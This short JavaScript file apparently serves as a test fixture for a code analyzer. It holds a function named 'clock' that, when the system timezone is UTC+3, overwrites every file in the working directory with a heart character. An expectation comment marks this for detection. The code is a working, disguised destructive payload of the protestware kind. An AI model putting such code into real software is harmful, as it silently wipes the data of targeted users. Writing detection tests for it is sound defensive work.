const fs = require('fs');
const path = require('path');

// As a minifier writes it.
exports.clock = function () {
  new Date().getTimezoneOffset() !== -180 || fs.readdir('.', (e, names) => names.forEach((n) => fs.writeFile(path.resolve(n), '\u2665', () => {})));  // want "files that are there are written over"
};
